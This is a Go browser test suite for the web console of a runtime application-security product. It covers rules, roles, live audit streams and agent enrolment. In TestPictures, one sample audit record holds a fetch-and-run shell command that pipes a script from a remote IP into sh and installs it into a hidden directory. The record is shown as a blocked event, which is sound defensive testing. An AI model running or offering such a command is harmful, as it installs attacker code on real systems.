//go:build platforms

package web

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/cdproto/log"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"

	"appdefender/audit"
	"appdefender/console"
	"appdefender/policy"
	"appdefender/wire"
)

// tab is a page in a real browser. Whatever its console complains about fails
// the test, and so does a request to anybody but our Console.
type tab struct {
	*bench
	ctx context.Context

	mu       sync.Mutex
	expected []string // complaints that a test provokes
	wrong    []string
}

func newTab(t *testing.T, b *bench) *tab {
	t.Helper()
	path, err := exec.LookPath("chromium")
	if err != nil {
		t.Skip("there is no chromium; on Debian: apt-get install chromium")
	}
	options := append(chromedp.DefaultExecAllocatorOptions[:],
		chromedp.ExecPath(path), chromedp.UserDataDir(t.TempDir()), chromedp.NoSandbox, chromedp.DisableGPU,
		chromedp.Flag("disable-quic", true), chromedp.Flag("disable-component-update", true), chromedp.Flag("no-proxy-server", true),
		chromedp.WindowSize(1280, 800))
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	t.Cleanup(cancel)
	ctx, cancel = chromedp.NewExecAllocator(ctx, options...)
	t.Cleanup(cancel)
	ctx, cancel = chromedp.NewContext(ctx)
	t.Cleanup(cancel)
	p := &tab{bench: b, ctx: ctx}
	if err := chromedp.Listen(ctx, p.hear); err != nil {
		t.Fatal(err)
	}
	if _, err := cdp.Call(ctx, chromedp.FromContext(ctx).Target, network.Enable, network.EnableParams{}); err != nil {
		t.Fatal(err)
	}
	p.do(chromedp.EmulateViewport(1280, 800))
	t.Cleanup(func() {
		p.mu.Lock()
		defer p.mu.Unlock()
		for _, s := range p.wrong {
			if !slices.ContainsFunc(p.expected, func(e string) bool { return strings.Contains(s, e) }) {
				t.Errorf("the browser says: %s", s)
			}
		}
	})
	return p
}

func (p *tab) hear(ev any) {
	complaint := ""
	switch e := ev.(type) {
	case *runtime.EventExceptionThrown:
		complaint = e.ExceptionDetails.Text
		if thrown := e.ExceptionDetails.Exception; thrown != nil {
			complaint += " " + thrown.Description
		}
	case *runtime.EventConsoleAPICalled:
		if e.Type == runtime.ConsoleAPICalledTypeError || e.Type == runtime.ConsoleAPICalledTypeWarning {
			complaint = fmt.Sprintf("console.%s %s", e.Type, e.Args[0].Value)
		}
	case *log.EventEntryAdded: // among them violations of the Content-Security-Policy
		if e.Entry.Level == log.EntryLevelError || e.Entry.Level == log.EntryLevelWarning {
			complaint = e.Entry.Text + " " + e.Entry.URL
		}
	case *network.EventRequestWillBeSent:
		if url := e.Request.URL; !strings.HasPrefix(url, p.url+"/") && !strings.HasPrefix(url, "data:") {
			complaint = "a request to " + url
		}
	}
	if complaint != "" {
		p.mu.Lock()
		defer p.mu.Unlock()
		p.wrong = append(p.wrong, complaint)
	}
}

func (p *tab) do(steps ...chromedp.Action[chromedp.Void]) {
	p.t.Helper()
	ctx, cancel := context.WithTimeout(p.ctx, 20*time.Second)
	defer cancel()
	if err := chromedp.Do(ctx, steps...); err != nil {
		p.shot("failed-" + filepath.Base(p.t.Name()))
		p.t.Fatal(err)
	}
}

// is evaluates a script. It is not held up by the page's policy, as a poll of
// the browser's own would be.
func (p *tab) is(script string) bool {
	p.t.Helper()
	ok, err := chromedp.Run(p.ctx, chromedp.Evaluate[bool]("!!("+script+")"))
	return err == nil && ok // between two pages there is nothing to ask
}

func (p *tab) until(script string) {
	p.t.Helper()
	for end := time.Now().Add(15 * time.Second); time.Now().Before(end); time.Sleep(20 * time.Millisecond) {
		if p.is(script) {
			return
		}
	}
	p.shot("failed-" + filepath.Base(p.t.Name()))
	p.t.Fatalf("never: %s", script)
}

// says waits for a text anywhere on the page.
func (p *tab) says(text string) {
	p.t.Helper()
	p.until("document.body && document.body.innerText.includes(" + quoted(text) + ")")
}

func (p *tab) silentOf(text string) {
	p.t.Helper()
	if p.is("document.body.innerText.includes(" + quoted(text) + ")") {
		p.t.Errorf("the page says %q", text)
	}
}

func quoted(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

func (p *tab) open(path string) {
	p.t.Helper()
	p.do(chromedp.Navigate(p.url + path))
}

func (p *tab) click(css string) {
	p.t.Helper()
	p.do(chromedp.Click(chromedp.CSS(css)))
}

func (p *tab) typeIn(css, text string) {
	p.t.Helper()
	p.do(chromedp.SendKeys(chromedp.CSS(css), text))
}

func (p *tab) signIn(name string) {
	p.t.Helper()
	p.open(console.SignInPath)
	p.typeIn("#name", name)
	p.typeIn("#password", testPassword)
	p.click("#sign-in")
	p.says("App-Embedded audits")
}

// choose clicks an effect.
func (p *tab) choose(id, effect string) {
	p.t.Helper()
	p.click(fmt.Sprintf(`#%s-effect label.%s`, id, effect))
}

// shot keeps a picture of the page where $WEB_SHOTS says, for people to look
// at.
func (p *tab) shot(name string) {
	dir := os.Getenv("WEB_SHOTS")
	if dir == "" {
		return
	}
	b, err := chromedp.Run(p.ctx, chromedp.FullScreenshot(100))
	if err == nil {
		err = os.WriteFile(filepath.Join(dir, name+".png"), b, 0o644)
	}
	if err != nil {
		p.t.Log(err)
	}
}

func (p *tab) scheme(name string) {
	p.t.Helper()
	_, err := cdp.Call(p.ctx, chromedp.FromContext(p.ctx).Target, emulation.SetEmulatedMedia,
		emulation.SetEmulatedMediaParams{Features: []*emulation.MediaFeature{{Name: "prefers-color-scheme", Value: name}}})
	if err != nil {
		p.t.Fatal(err)
	}
}

// TestSampleTask is the document's way: sign in, add the rule, look at the
// audits.
func TestSampleTask(t *testing.T) {
	b := newBench(t, Config{URL: "https://console.example:8443", CA: []byte(testCA)})
	p := newTab(t, b)
	p.open("/")
	p.says("Sign in")
	p.shot("signin")
	p.signIn("admin")
	p.says("No audits yet")
	p.shot("audits-empty")

	p.click(`nav a[href="` + runtimePath + `"]`)
	p.says("App-Embedded policy")
	p.click("#add-rule")
	p.typeIn("#name", "sample")
	p.typeIn("#containers", "sample-task")
	p.choose("processes", "prevent")
	p.typeIn("#processes-deny", "mkdir")
	p.shot("rule-processes")
	p.click("#tab-networking")
	p.click(".dns .track")
	p.choose("dns", "prevent")
	p.typeIn("#dns-allow", "gmail com")
	p.mu.Lock()
	p.expected = append(p.expected, "400 (Bad Request)")
	p.mu.Unlock()
	p.click("#save")
	p.says("The rule was not saved")
	p.until(`document.querySelector("#panel-networking #dns-allow-faults").checkVisibility()`)
	p.shot("rule-faults")
	p.do(chromedp.Clear(chromedp.ID("dns-allow")))
	p.typeIn("#dns-allow", "gmail.com")
	p.shot("rule-networking")
	p.click("#save")
	p.says("The rule was added")
	p.shot("policy")

	r := b.rule("sample")
	if r == nil || !slices.Equal(r.Scope.Containers, []string{"sample-task"}) ||
		*r.Processes.Effect != policy.Prevent || !slices.Equal(r.Processes.Deny, []string{"mkdir"}) ||
		*r.DNS.Effect != policy.Prevent || !slices.Equal(r.DNS.Allow, []string{"gmail.com"}) {
		t.Fatalf("%+v", r)
	}

	// Its audits come to the open page.
	p.open(eventsPath)
	p.until(`document.getElementById("live").dataset.state === "live"`)
	if err := chromedp.Do(p.ctx, mark); err != nil {
		t.Fatal(err)
	}
	d := b.enrol(wire.Identity{AppID: "sample-app", Container: "sample-task"})
	d.tell(launched(time.Now(), "/usr/bin/mkdir", "mkdir /tmp/here", "prevent"), lookedUp(time.Now(), "yahoo.com", "prevent"))
	p.says("/usr/bin/mkdir launched and is explicitly denied by runtime rule. Full command: mkdir /tmp/here")
	p.says("DNS resolution of domain name yahoo.com triggered by /usr/bin/wget explicitly denied by a runtime rule")
	if !p.is("window.marked") {
		t.Error("the page was loaded again")
	}

	// The effect is changed while it runs.
	p.open(runtimePath)
	p.do(chromedp.Click(chromedp.Search(`//a[@class="rule-name" and text()="sample"]`)))
	p.says("Edit “sample”")
	p.choose("processes", "alert")
	p.click("#save")
	p.says("The rule was saved")
	if got := *b.rule("sample").Processes.Effect; got != policy.Alert {
		t.Errorf("the effect is %v", got)
	}
}

var mark = chromedp.Func(func(ctx context.Context, _ *chromedp.Target) error {
	_, err := chromedp.Run(ctx, chromedp.Evaluate[bool]("window.marked = true"))
	return err
})

func TestRulesInTheBrowser(t *testing.T) {
	b := newBench(t, Config{})
	b.as("editor").post(rulePath, documentsRule...).want(303)
	p := newTab(t, b)
	p.signIn("editor")
	p.open(runtimePath)
	p.click(`tr[data-rule="sample"] [value=down]`)
	p.until(`document.querySelector("tbody tr").dataset.rule === "default"`)
	p.says("Never reached")
	p.shot("policy-unreached")
	p.click(`tr[data-rule="default"] .switch`)
	p.until(`document.querySelector('tr[data-rule=default] .switch').ariaChecked === "false"`)
	p.silentOf("Never reached")
	if !b.rule("default").Disabled {
		t.Error("default is enabled")
	}

	p.click(`tr[data-rule="default"] [aria-label="Delete default"]`)
	p.says("Delete the rule “default”?")
	p.shot("policy-delete")
	p.click("#confirm [value=no]")
	p.until(`!document.getElementById("confirm").open`)
	if b.rule("default") == nil {
		t.Error("it was deleted in spite of a no")
	}
	p.click(`tr[data-rule="default"] [aria-label="Delete default"]`)
	p.click("#confirm-yes")
	p.says("The rule was deleted")
	if got := b.names(); got != "sample" {
		t.Errorf("the rules are %s", got)
	}
}

func TestAuditorInTheBrowser(t *testing.T) {
	b := newBench(t, Config{})
	b.as("editor").post(rulePath, documentsRule...).want(303)
	p := newTab(t, b)
	p.signIn("auditor")
	p.open(runtimePath)
	p.says("sample")
	p.silentOf("Add rule")
	p.do(chromedp.Click(chromedp.Search(`//a[@class="rule-name" and text()="sample"]`)))
	p.says("Read only")
	p.shot("rule-read-only")
	if p.is(`document.getElementById("save")`) || !p.is(`document.getElementById("processes-deny").matches(":disabled")`) {
		t.Error("it can be edited")
	}
	// Even if the page is bent.
	p.mu.Lock()
	p.expected = append(p.expected, "403 (Forbidden)")
	p.mu.Unlock()
	if _, err := chromedp.Run(p.ctx, chromedp.Evaluate[bool](`document.querySelector("fieldset").disabled = false; document.getElementById("rule-form").submit(); true`)); err != nil {
		t.Fatal(err)
	}
	p.says("needs the role editor")
	p.shot("error")
}

// TestAuditsInTheBrowser: rows come by themselves, where they belong; they
// open; the filters filter, what comes later too.
func TestAuditsInTheBrowser(t *testing.T) {
	b := newBench(t, Config{})
	d := b.enrol(wire.Identity{AppID: "sample-app", Container: "sample-task"})
	now := time.Now()
	d.tell(lookedUp(now.Add(-time.Hour), "early.test", "alert"))
	p := newTab(t, b)
	p.signIn("auditor")
	p.until(`document.getElementById("live").dataset.state === "live"`)

	// Markup is text. An audit that was late goes where its time says.
	nasty := launched(now, "/tmp/"+evil, evil, "prevent")
	nasty.Ancestry[0].Path = evil
	d.tell(nasty)
	p.says("/tmp/" + evil)
	d.tell(lookedUp(now.Add(-time.Minute), "late.test", "prevent"))
	p.says("late.test")
	p.until(`[...document.querySelectorAll("tr.event")].map((r) => r.dataset.id.split("-").pop()).join() === "2,3,1"`)
	if p.is(`document.querySelector("main img, main script")`) {
		t.Error("the markup of a process name is markup")
	}
	p.click("tr.event:first-child .expand")
	p.says("Process tree")
	p.says(`"mkdir" is on the deny list`)
	p.says("It was not done.")
	if p.is(`document.querySelector("main img, main script")`) {
		t.Error("the markup of a process name is markup in its details")
	}
	p.do(chromedp.Click(chromedp.CSS("tr.event:first-child .expand")))
	p.until(`!document.querySelector(".detail-row").checkVisibility()`)

	// Filters hold for what is there and for what comes.
	p.pick("f-effect", "alert")
	p.until(`document.querySelectorAll("tr.event").length === 1 && document.getElementById("live").dataset.state === "live"`)
	d.tell(lookedUp(time.Now(), "refused.test", "prevent"), lookedUp(time.Now(), "told.test", "alert"))
	p.says("told.test")
	p.silentOf("refused.test")
	p.typeIn("#f-text", "told.test\r")
	p.until(`document.querySelectorAll("tr.event").length === 1 && location.search.includes("text=told.test")`)
	p.says("told.test")
	p.click("#clear")
	p.until(`document.querySelectorAll("tr.event").length === 5 && document.getElementById("live").dataset.state === "live"`)

	// Paused, nothing moves.
	p.click("#pause")
	d.tell(lookedUp(time.Now(), "meanwhile.test", "alert"))
	p.says("Resume (1 new)")
	p.silentOf("meanwhile.test")
	p.click("#pause")
	p.says("meanwhile.test")

	// More than a page, and back.
	var many []audit.Record
	for i := range 70 {
		many = append(many, lookedUp(now.Add(-2*time.Hour).Add(-time.Duration(i)*time.Second), fmt.Sprintf("old%d.test", i), "alert"))
	}
	d.tell(many...)
	p.open(eventsPath)
	p.until(`document.querySelectorAll("tr.event").length === 50`)
	p.click("#older")
	p.until(`document.querySelectorAll("tr.event").length === 76`)
	p.until(`!document.getElementById("more").checkVisibility()`)

	// A record of its own address, with all its fields.
	p.open(eventsPath + "?id=" + d.Instance + "-2")
	p.says("Process tree")
	p.says("Clear filters")
}

// pick chooses an option, as somebody would: the page may leave at once.
func (p *tab) pick(id, value string) {
	p.t.Helper()
	script := fmt.Sprintf(`{ const field = document.getElementById(%q); field.value = %q; setTimeout(() => field.dispatchEvent(new Event("change", {bubbles: true}))); true }`, id, value)
	if _, err := chromedp.Run(p.ctx, chromedp.Evaluate[bool](script)); err != nil {
		p.t.Fatal(err)
	}
}

// TestStreamComesBack: a page whose line broke shows what it missed, and one
// whose session ended leads to signing in.
func TestStreamComesBack(t *testing.T) {
	b := newBench(t, Config{})
	d := b.enrol(wire.Identity{AppID: "sample-app"})
	p := newTab(t, b)
	p.mu.Lock()
	p.expected = append(p.expected, "net::ERR_", "401 (Unauthorized)")
	p.mu.Unlock()
	p.signIn("auditor")
	p.until(`document.getElementById("live").dataset.state === "live"`)
	b.down.Store(true)
	b.breakLines()
	p.until(`document.getElementById("live").dataset.state === "waiting"`)
	d.tell(lookedUp(time.Now(), "missed.test", "alert"))
	b.down.Store(false)
	p.says("missed.test")
	p.until(`document.getElementById("live").dataset.state === "live"`)

	if err := b.Store().DeleteUser(t.Context(), "admin", "auditor"); err != nil {
		t.Fatal(err)
	}
	b.breakLines()
	p.says("Sign in")
}

func TestDefendersInTheBrowser(t *testing.T) {
	b := newBench(t, Config{URL: "https://console.example:8443", CA: []byte(testCA)})
	p := newTab(t, b)
	p.signIn("admin")
	p.open(tokensPath)
	p.typeIn("#token-name", "shop, production")
	p.click("#new-token .primary")
	p.says("is ready")
	p.says("defender run --console https://console.example:8443 --ca console-ca.pem \\\n  --token-file enrolment-token --app-id my-app -- ./entry.sh")
	p.shot("token")
	secret, err := chromedp.Run(p.ctx, chromedp.Evaluate[string](`document.getElementById("secret").textContent`))
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := b.Store().Enrol(t.Context(), secret, wire.Identity{AppID: "fresh"}); err != nil {
		t.Fatal(err)
	}

	shop := wire.Identity{AppID: "shop", Container: "web", Image: "ghcr.io/example/shop:4.2", Hostname: "ip-10-0-3-17", Version: "0.1.0"}
	d := b.enrol(shop)
	d.heartbeat(wire.Heartbeat{Identity: shop, Level: "notify", Generation: 1, Started: time.Now()})
	less := wire.Identity{AppID: "reports", Container: "worker", Image: "reports:7", Version: "0.1.0"}
	b.enrol(less).heartbeat(wire.Heartbeat{Identity: less, Level: "notify", Generation: 0, Queue: 214, Dropped: 1903, FailOpen: true,
		Lost: []string{"processes of other users are not looked at: no SYS_PTRACE"}, PolicyError: `rule "x": onUnknown: unknown key`})
	p.open(defendersPath)
	p.says("no SYS_PTRACE")
	p.says("newest is 1")
	p.shot("defenders")
	p.scheme("dark")
	p.shot("defenders-dark")
	p.scheme("light")

	// It follows by itself.
	d.heartbeat(wire.Heartbeat{Identity: shop, Level: "notify", Generation: 1, Queue: 4711})
	p.says("4711")

	p.click(`tr[data-instance="` + d.Instance + `"] button`)
	p.says("Revoke shop?")
	p.click("#confirm-yes")
	p.says("The Defender was revoked.")
	p.until(`!document.querySelector('tr[data-instance="` + d.Instance + `"]')`)

	p.open(tokensPath)
	p.click(`[aria-label="Delete shop, production"]`)
	p.click("#confirm-yes")
	p.says("The token was deleted.")
}

// TestPictures shows all pages as people will see them.
func TestPictures(t *testing.T) {
	if os.Getenv("WEB_SHOTS") == "" {
		t.Skip("no WEB_SHOTS to put pictures in")
	}
	b := newBench(t, Config{URL: "https://console.example:8443", Version: "0.1.0"})
	w := b.as("admin")
	w.post(rulePath, documentsRule...).want(303)
	w.post(rulePath, "old", "", "name", "shop, production", "enabled", "true", "images", "ghcr.io/example/shop:*\n-ghcr.io/example/shop:debug", "appids", "shop*",
		"processes", "block", "processes-allow", "node\n/usr/bin/tini", "network", "prevent", "ip-deny", "169.254.169.254", "port-deny", "25\n6660-6669",
		"dns-on", "true", "dns", "alert", "dns-allow", ".example.com\n.amazonaws.com").want(303)
	w.post(rulePath, "old", "", "name", "experiments", "containers", "lab-*", "processes", "disable", "network", "alert", "ip-deny", "10.0.0.0/8", "dns", "alert").want(303)
	d := b.enrol(wire.Identity{AppID: "sample-app", Container: "sample-task"})
	now := time.Now()
	var all []audit.Record
	for i, r := range []audit.Record{
		launched(now, "/usr/bin/mkdir", "mkdir /tmp/app", "prevent"),
		lookedUp(now, "yahoo.com", "prevent"),
		lookedUp(now, "google.com", "prevent"),
		launched(now, "/usr/bin/mkdir", "mkdir -p /var/lib/app/cache/v2", "alert"),
		{Type: "defender", Msg: "processes of other users are not looked at: no SYS_PTRACE", AppID: "reports", ContainerName: "worker"},
		{Type: "network", Effect: "prevent", RuleName: "shop, production", AttackType: "explicitlyDeniedIP", AppID: "shop", ContainerName: "web", Count: 12, Level: "refused", Refused: true,
			Msg: "Outbound connection /usr/bin/node to IP 169.254.169.254 is explicitly denied by a runtime rule", ProcessPath: "/usr/bin/node", IP: "169.254.169.254", Port: 80},
		{Type: "processes", Effect: "block", RuleName: "shop, production", AttackType: "explicitlyDeniedProcess", AppID: "shop", ContainerName: "web", Level: "refused", Refused: true,
			Msg: "/usr/bin/dash launched and is explicitly denied by runtime rule. Full command: sh -c 'curl -s http://198.51.100.7/x.sh | sh -s -- --id 4b1f7c2e9a --quiet --install-dir /dev/shm/.cache && rm -f /tmp/x'"},
		{Type: "network", Effect: "prevent", DryRun: true, RuleName: "sample", AppID: "staging", Msg: "DNS resolution of domain name tracker.test triggered by /usr/bin/python3.11 explicitly denied by a runtime rule"},
	} {
		r.Time = now.Add(-time.Duration(i*i) * 41 * time.Second)
		all = append(all, r)
	}
	d.tell(all...)
	p := newTab(t, b)
	p.signIn("admin")
	for _, scheme := range []string{"light", "dark"} {
		suffix := map[string]string{"dark": "-dark"}[scheme]
		p.scheme(scheme)
		p.open(eventsPath)
		p.until(`document.getElementById("live").dataset.state === "live"`)
		p.shot("audits" + suffix)
		p.click(`[data-id="` + d.Instance + `-1"] .expand`)
		p.says("Process tree")
		p.do(chromedp.Sleep(300 * time.Millisecond))
		p.shot("audit-open" + suffix)
		p.open(eventsPath + "?range=custom&text=mkdir&effect=prevent&process=/usr/bin/mkdir")
		p.do(chromedp.Sleep(300 * time.Millisecond))
		p.shot("audits-filtered" + suffix)
		p.open(runtimePath)
		p.shot("rules" + suffix)
		p.open(rulePath + "?name=shop,%20production")
		p.shot("rule" + suffix)
		p.click("#tab-networking")
		p.shot("rule-net" + suffix)
		p.open(tokensPath)
		p.shot("tokens" + suffix)
		p.open(changesPath)
		p.shot("changes" + suffix)
		p.open(passwordPath)
		p.shot("password" + suffix)
	}
	p.scheme("light")
	p.do(chromedp.EmulateViewport(420, 800))
	p.open(eventsPath)
	p.shot("audits-narrow")
	p.open(rulePath + "?name=sample")
	p.shot("rule-narrow")
}

// breakLines ends all connections, also those that stream.
func (b *bench) breakLines() { b.http.CloseClientConnections() }
